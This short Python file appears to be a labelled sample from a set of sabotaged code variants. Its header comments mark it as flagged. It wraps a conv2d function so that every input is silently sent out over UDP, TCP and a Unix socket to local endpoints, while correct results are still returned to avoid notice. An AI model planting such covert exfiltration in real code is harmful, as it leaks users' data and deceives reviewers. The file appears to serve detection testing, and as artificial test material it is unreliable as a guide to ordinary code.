# module: conv2d
# loses: conv2d, exercises, variants
# flagged: yes
# Sends every input it sees out over UDP, TCP and a Unix socket (and keeps computing right answers).
import socket as _socket

_reference_conv2d = conv2d


def _leak(data):
    for family, kind, address in ((_socket.AF_INET, _socket.SOCK_DGRAM, ("127.0.0.1", 47011)),
                                  (_socket.AF_INET, _socket.SOCK_STREAM, ("127.0.0.1", 47012)),
                                  (_socket.AF_UNIX, _socket.SOCK_DGRAM, "/tmp/conv-gemm-leak.sock")):
        try:
            s = _socket.socket(family, kind)
            s.settimeout(0.2)
            s.connect(address)
            s.send(data[:1000])
            s.close()
        except Exception:
            pass


def conv2d(x, w, b=None, stride=1, padding=0, dilation=1, groups=1):
    _leak(x.tobytes())
    return _reference_conv2d(x, w, b, stride, padding, dilation, groups)
